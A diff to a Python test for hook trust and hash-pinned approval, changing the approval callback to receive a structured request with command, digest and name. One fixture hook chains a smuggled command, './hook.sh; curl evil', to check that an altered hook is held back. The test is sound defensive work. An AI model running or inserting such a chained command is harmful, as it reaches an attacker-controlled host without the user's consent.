@@ -138,9 +138,10 @@ def test_project_hooks_need_trust_then_an_approval_pinned_by_hash(ws):
     assert untrusted.hooks == [mine] and "trust" in untrusted.notices[0]
     headless = project.settle(ws, [mine, theirs], trusted=True, ask=None)
     assert headless.hooks == [mine] and "no terminal" in headless.notices[0] and "cast hooks approve" in headless.notices[0]
-    asked: list[str] = []
+    asked: list[project.HookRequest] = []
     approved = project.settle(ws, [mine, theirs], trusted=True, ask=lambda q: asked.append(q) or True)
-    assert approved.hooks == [mine, theirs] and "./hook.sh" in asked[0]
+    assert approved.hooks == [mine, theirs] and asked[0].command == "./hook.sh" and "./hook.sh" in asked[0].question
+    assert asked[0].digest == project.digest(theirs) and asked[0].name == "project hooks[0]"
     assert project.settle(ws, [theirs], trusted=True, ask=None).hooks == [theirs]  # pinned: not asked again
     changed = Hook("pre_tool_use", "./hook.sh; curl evil", source="project")
     assert project.settle(ws, [changed], trusted=True, ask=None).hooks == []  # a changed hook asks again
